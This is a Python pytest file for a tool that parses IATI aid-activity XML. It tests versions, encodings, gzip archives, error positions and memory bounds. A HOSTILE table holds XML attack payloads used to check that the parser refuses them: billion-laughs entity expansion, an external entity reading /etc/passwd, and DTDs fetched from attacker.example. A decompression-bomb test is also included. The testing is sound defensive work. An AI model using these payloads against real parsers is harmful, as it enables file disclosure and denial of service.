"""Reading IATI files: what is no such file is refused with its place, and what is one never fills the memory."""

from __future__ import annotations

import gzip
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from coopctl.activities import document, parsing
from coopctl.activities.element import Element
from coopctl.problems import CoopctlError, Exit
from tests.conftest import SHARED

ACTIVITY = "<iati-activity><iati-identifier>XM-1-A</iati-identifier></iati-activity>"
FILE = f'<?xml version="1.0"?>\n<iati-activities version="2.03">\n{ACTIVITY}\n</iati-activities>\n'
Written = Callable[..., str]


@pytest.fixture
def written(tmp_path: Path) -> Written:
    """Write a file of this content; returns its path."""

    def write(content: str | bytes, name: str = "activities.xml") -> str:
        path = tmp_path / name
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
        return str(path)

    return write


def read(path: str) -> list[Element]:
    """All activities of a file."""
    with open(path, "rb") as stream:
        return list(document.opened(path, stream).activities)


def refusal(path: str) -> CoopctlError:
    """Why a file is not read."""
    with pytest.raises(CoopctlError) as raised:
        read(path)
    return raised.value


def identifiers(activities: list[Element]) -> list[str]:
    """The identifiers of activities."""
    return [found.text for one in activities if (found := one.first("iati-identifier"))]


@pytest.mark.parametrize("version", ["2.01", "2.02", "2.03", "", "2.1"])
def test_every_version_since_2_01_is_read(written: Written, version: str) -> None:
    assert identifiers(read(written(FILE.replace("2.03", version)))) == ["XM-1-A"]


@pytest.mark.parametrize("version", ["1.01", "1.05", "3.01"])
def test_other_versions_are_said_not_to_be(written: Written, version: str) -> None:
    refused = refusal(written(FILE.replace("2.03", version)))
    assert (refused.exit_code, f"version {version}," in refused.message) == (Exit.INVALID, True)


def test_an_activity_cut_out_of_a_file_is_read(written: Written) -> None:
    assert identifiers(read(written(ACTIVITY))) == ["XM-1-A"]


def test_elements_know_their_lines(written: Written) -> None:
    (activity,) = read(written(FILE))
    assert activity.line == 3


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "iso-8859-1", "windows-1252"])
def test_encodings_are_those_that_the_file_names(written: Written, encoding: str) -> None:
    named = encoding.removesuffix("-sig")
    text = f'<?xml version="1.0" encoding="{named}"?><iati-activities><iati-activity><title>Zürnau – é</title>'
    text += "</iati-activity></iati-activities>"
    (activity,) = read(written(text.encode(encoding, "xmlcharrefreplace")))
    title = activity.first("title")
    assert title is not None
    assert title.text == "Zürnau – é"


def test_gzip_archives_are_unpacked_also_of_several_members(written: Written) -> None:
    packed = gzip.compress(FILE[:60].encode()) + gzip.compress(FILE[60:].encode())
    assert identifiers(read(written(packed, "activities.xml.gz"))) == ["XM-1-A"]


@pytest.mark.parametrize(
    ("content", "line", "column", "words"),
    [
        (FILE[:-30], 3, 0, "cut off"),
        (FILE[: FILE.index("XM-1-A")], 3, 0, "cut off"),
        (FILE[: FILE.index('version="2') + 3], 2, 0, "cut off"),
        (FILE.replace("</iati-identifier>", "</identifier>"), 3, 41, "does not fit"),
        (FILE.replace("XM-1-A", "XM & A"), 3, 37, "does not allow"),
        (FILE.replace("XM-1-A", "XM\x1bA"), 3, 35, "does not allow"),
        (FILE.replace("XM-1-A", "&eacute;"), 3, 33, "one of XML's own five"),
        (FILE + "<more/>", 5, 1, "behind the end"),
        (FILE.replace('"1.0"', '"1.0" encoding="klingon"'), 1, 1, "encoding"),
        (FILE.replace('"1.0"', '"1.0" encoding="shift_jis"'), 1, 1, "encoding"),
    ],
)
def test_malformed_xml_is_said_with_line_and_column(
    written: Written, content: str, line: int, column: int, words: str
) -> None:
    refused = refusal(written(content))
    (problem,) = refused.problems
    assert refused.exit_code == Exit.INVALID
    assert (problem.line, problem.column) == (line, column)
    assert words in problem.message


@pytest.mark.parametrize(
    "content", ["", "not a word of XML", '{"activities": []}', "identifier;title\n1;2\n", b"\xff\xfe"]
)
def test_what_is_no_xml_is_called_so(written: Written, content: str | bytes) -> None:
    assert "is no XML" in refusal(written(content)).message


@pytest.mark.parametrize(
    ("content", "words"),
    [
        ('<rss version="2.0"><channel/></rss>', "<rss>"),
        ("<html><body>Error 404</body></html>", "<html>"),
        ('<iati-organisations version="2.03"/>', "file of organisations"),
    ],
)
def test_other_xml_is_called_what_it_is(written: Written, content: str, words: str) -> None:
    refused = refusal(written(content))
    assert (refused.exit_code, words in refused.message) == (Exit.INVALID, True)


HOSTILE = {
    "billion laughs": '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
    "external entity": '<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    "external document type": '<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd">',
    "parameter entity": '<!DOCTYPE a [<!ENTITY % a SYSTEM "http://attacker.example/a.dtd"> %a;]>',
    "harmless": "<!DOCTYPE iati-activities>",
}


@pytest.mark.parametrize("declared", HOSTILE.values(), ids=HOSTILE)
def test_no_document_type_is_read(written: Written, declared: str) -> None:
    refused = refusal(written(FILE.replace("\n", f"\n{declared}", 1).replace("XM-1-A", "&a;")))
    assert "document type" in refused.problems[0].message
    assert refused.problems[0].line == 2


def test_what_is_beyond_all_bounds_is_refused(written: Written, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(parsing, "MOST_ELEMENTS", 1000)
    monkeypatch.setattr(parsing, "MOST_TEXT", 10_000)
    monkeypatch.setattr(parsing, "LONGEST_TAG", 1_000_000)
    for content, words in (
        ("<a/>" * 2000, "more than 1,000 elements"),
        ("<a>" * 200, "nested deeper"),
        ("x" * 20_000, "characters of text"),
        (f'<a b="{"x" * 3_000_000}"/>', "longer than"),
    ):
        assert words in refusal(written(FILE.replace("XM-1-A", content))).problems[0].message


def test_what_was_unpacked_is_bounded_too(written: Written, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("coopctl.activities.source.LARGEST", 1_000_000)
    packed = gzip.compress(FILE.replace("\n", " " * 2_000_000, 1).encode())
    assert len(packed) < 10_000
    assert "is larger than" in refusal(written(packed)).message


@pytest.mark.parametrize("cut", [12, 40, -5])
def test_damaged_archives_are_called_so(written: Written, cut: int) -> None:
    assert "damaged" in refusal(written(gzip.compress(FILE.encode())[:cut])).message
    assert "ZIP" in refusal(written(b"PK\x03\x04" + b"\0" * 100)).message


def test_what_was_not_taken_is_listed_by_its_path(written: Written) -> None:
    content = (
        '<title xml:lang="fr"><narrative>A</narrative><narrative>B</narrative></title><sector code="1" percentage="9"/>'
    )
    (activity,) = read(written(f"<iati-activity>{content}<tag/></iati-activity>"))
    title, sector = activity.children[:2]
    title.children[0].mark()
    sector.take("code")
    assert [path for path, _ in activity.left()] == ["title/narrative", "sector/@percentage", "tag"]


def test_parts_of_which_nothing_is_taken_are_counted_but_not_kept(written: Written) -> None:
    (activity,) = read(written("<iati-activity><budget><value>1</value></budget><title>A</title></iati-activity>"))
    assert [(one.name, len(one.children), one.text) for one in activity.children] == [
        ("budget", 0, ""),
        ("title", 0, "A"),
    ]


MEASURED = """
import resource, sys
from coopctl.activities import document
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
number = sum(1 for _ in document.opened("it", open(sys.argv[1], "rb")).activities)
print(number, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before)
"""


def test_memory_does_not_grow_with_the_file(tmp_path: Path) -> None:
    wanted = {2_000: tmp_path / "small.xml", 20_000: tmp_path / "large.xml"}
    activity = ACTIVITY.replace(
        "</iati-activity>", "<title><narrative>A long title</narrative></title>" * 20 + "</iati-activity>"
    )
    grown = []
    for number, path in wanted.items():
        path.write_text(f"<iati-activities>{activity * number}</iati-activities>")
        ended = subprocess.run([sys.executable, "-c", MEASURED, str(path)], capture_output=True, text=True, check=True)
        counted, kilobytes = map(int, ended.stdout.split())
        assert counted == number
        grown.append(kilobytes)
    assert path.stat().st_size > 20_000_000
    assert max(grown) < 10_000


@pytest.mark.skipif(
    not (SHARED / "iati").is_dir(), reason="the published files lie in ../shared/iati, which is not here"
)
def test_published_files_are_read() -> None:
    found = {path.name: identifiers(read(str(path))) for path in sorted((SHARED / "iati" / "real").glob("*.xml"))}
    assert {name: len(them) for name, them in found.items()} == {
        "covid_LB-MOI-497_2.03.xml": 1,
        "dportal_foodsecurity_2.03.xml": 7,
    }
